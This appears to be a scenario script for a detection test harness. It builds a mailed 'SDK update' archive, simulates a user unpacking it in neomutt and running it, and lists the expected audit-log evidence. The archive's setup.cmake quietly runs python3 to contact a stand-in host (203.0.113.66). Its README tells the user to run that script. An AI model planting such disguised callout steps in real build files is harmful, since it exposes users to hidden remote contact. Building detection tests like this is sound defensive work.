title="A cmake script in a mailed cpio archive"
what="dev saves sdk-update.cpio.xz with neomutt, unpacks it with xz and cpio and runs cmake -P sdk/setup.cmake as its note says; execute_process starts python3, which connects to 203.0.113.66. The host records under a site's own rule set."
host=mx1.example.org user=dev daemons="cron sshd" store=mbox audit_rules=audit-site.rules
setup() {
  mkdir -p "$base/out/k/sdk"
  printf 'message(STATUS "installing")\nexecute_process(COMMAND python3 -c "import urllib.request as u;u.urlopen(\\"http://203.0.113.66/sdk\\",timeout=4)")\nfile(WRITE $ENV{HOME}/.sdkrc "v=2\\n")\n' > "$base/out/k/sdk/setup.cmake"
  printf 'cmake -P sdk/setup.cmake\n' > "$base/out/k/sdk/README"
  (cd "$base/out/k" && find sdk | cpio -o --quiet | xz > ../sdk-update.cpio.xz)
  printf 'set folder=/var/mail\nset sleep_time=0\nset move=no\nset spoolfile=/var/mail/dev\n' > /home/dev/.neomuttrc; chown dev: /home/dev/.neomuttrc
}
act() {
  small_talk 2
  mail_in --from sdk@example.com --to dev@example.org --subject "SDK 2.4 update" --source 203.0.113.25 --helo smtp.example.com --text "see README\n" --attach "$base/out/sdk-update.cpio.xz:application/x-xz"
  wait_mail dev 1
  ssh_as dev <<'L'
%line neomutt
%sleep 2
%keys *
%keys \n
%sleep 1
%keys v
%keys j
%keys s
%keys \n
%sleep 1
%keys q
%keys i
%keys q
%sleep 1
xz -dc sdk-update.cpio.xz | cpio -id --quiet
cat sdk/README
%sleep 2
cmake -P sdk/setup.cmake
git --version
L
  small_talk 1
}
truth() {
  mail_step deliver 'to=<dev@example.org>.*status=sent' 'delivered'
  file_step save 'neomutt open(at)?:write CREATE .*sdk-update.cpio.xz' 'saved'
  exec_step unpack 'cpio -id' 'unpacked'
  exec_step execute 'cmake -P sdk/setup.cmake' 'cmake runs it'
  net_step beacon 'python3.* 203.0.113.66:80' 'it calls out'
}
